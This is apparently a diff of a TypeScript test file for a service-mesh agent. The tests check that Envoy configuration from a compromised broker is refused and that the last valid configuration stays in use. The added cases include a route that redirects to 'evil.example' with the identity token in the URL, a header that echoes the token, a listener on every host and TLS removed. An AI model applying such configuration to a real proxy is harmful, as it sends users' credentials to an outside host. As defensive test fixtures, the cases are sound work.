@@ -1,4 +1,4 @@
-/** A broker that was taken over sends configuration: nothing of it is used, and what was good before stays. */
+/** Configuration from a compromised broker: none of it is used, and the last valid one stays in use. */
 import { existsSync, readFileSync } from 'node:fs';
 import { expect, test } from 'vitest';
 import type { Written } from '../configuration.ts';
@@ -35,7 +35,7 @@ test.each<[string, (written: Written) => void]>([
     },
   ],
   [
-    'a file of the developer as an answer',
+    "one of the developer's files as a response",
     ({ routes }) => {
       routes[0].virtual_hosts[0].routes[0] = {
         match: { prefix: '/' },
@@ -44,13 +44,30 @@ test.each<[string, (written: Written) => void]>([
     },
   ],
   [
-    'a listener for everybody',
+    'a redirect to a foreign host with the identity token in the URL',
+    ({ routes }) => {
+      const header = { key: 'location', value: 'https://evil.example/?t=%REQ(X-Meshpass-Token)%' };
+      routes[0].virtual_hosts[0].routes[0] = {
+        match: { prefix: '/' },
+        redirect: { host_redirect: 'evil.example', response_code: 'TEMPORARY_REDIRECT' },
+        response_headers_to_add: [{ header, append_action: 'OVERWRITE_IF_EXISTS_OR_ADD' }],
+      };
+    },
+  ],
+  [
+    "the identity token in a header of the service's response",
+    ({ routes }) => {
+      routes[0].response_headers_to_add = [{ header: { key: 'x-answer', value: '%REQ(x-none?x-meshpass-token)%' } }];
+    },
+  ],
+  [
+    'a listener open to every host',
     ({ listeners }) => {
       listeners[0].address.socket_address.address = '0.0.0.0';
     },
   ],
   [
-    'a listener on the loopback where others listen',
+    'a listener on a loopback address that other programs use',
     ({ listeners }) => {
       listeners[0].address.socket_address.address = '127.0.0.1';
     },
@@ -64,13 +81,13 @@ test.each<[string, (written: Written) => void]>([
     },
   ],
   [
-    'a cluster without TLS, so that the token is read on the way',
+    'a cluster without TLS, which exposes the token in transit',
     ({ clusters }) => {
       delete clusters[0].transport_socket;
     },
   ],
   [
-    'a cluster that takes any certificate',
+    'a cluster that accepts any certificate',
     (written) => {
       tls(written).common_tls_context.combined_validation_context.default_validation_context = {};
     },
@@ -83,7 +100,7 @@ test.each<[string, (written: Written) => void]>([
     },
   ],
   [
-    'the tunnel of a grant that is not of the session',
+    'the tunnel of a grant outside the session',
     ({ clusters }) => {
       const [endpoint] = clusters[0].load_assignment.endpoints[0].lb_endpoints;
       endpoint.endpoint.address.envoy_internal_address.server_listener_name = 'tunnel/other';
@@ -96,13 +113,13 @@ test.each<[string, (written: Written) => void]>([
     },
   ],
   [
-    'a name of the internet',
+    'a name on the internet',
     ({ routes }) => {
       routes[0].virtual_hosts[0].domains.push('github.com');
     },
   ],
   [
-    'a catch-all that leads somewhere',
+    'a catch-all with a destination',
     ({ routes }) => {
       routes[0].virtual_hosts[1].routes[0] = structuredClone(routes[0].virtual_hosts[0].routes[0]);
     },
@@ -120,18 +137,18 @@ test.each<[string, (written: Written) => void]>([
   await expect.poll(async () => (await state()).refused.length).toBeGreaterThan(0);
   const { notes, configuration, envoy } = await w.agent.status();
   expect(configuration).toMatchObject({ version: w.broker.configurationVersion - 1, rejected: [] });
-  expect(notes[0]).toContain('the last good one is');
+  expect(notes[0]).toContain('The last valid one remains');
   expect(envoy.listeners.map((one) => one.address)).toContain(`${address}:8080`);
   expect((await request(address, 8080, '/orders/1')).status).toBe(200);
   expect(existsSync(FILE)).toBe(false);
-  // The honest one is taken up again.
+  // The honest configuration is accepted again.
   w.broker.spoilConfiguration = undefined;
   w.broker.configurationVersion += 1;
   await expect.poll(async () => (await state()).version).toBe(w.broker.configurationVersion);
   expect((await state()).refused).toEqual([]);
 });
 
-test('what is hostile from the beginning leaves the workspace without services, and with its own names', async () => {
+test('leaves the workspace without services, but with its own names, if the first configuration is hostile', async () => {
   const w = await world({
     adjust: (broker) => {
       broker.spoilConfiguration = ({ listeners }) => {
@@ -145,7 +162,7 @@ test('what is hostile from the beginning leaves the workspace without services, 
   expect(readFileSync(w.hostsFile, 'utf8')).toBe('127.0.0.1 localhost\n');
 });
 
-test('while a configuration is refused, what the agent makes itself follows the services all the same', async () => {
+test("updates the agent's own resources with the services while a configuration is refused", async () => {
   const w = await world({
     adjust: (broker) => {
       broker.heartbeatSeconds = 1;
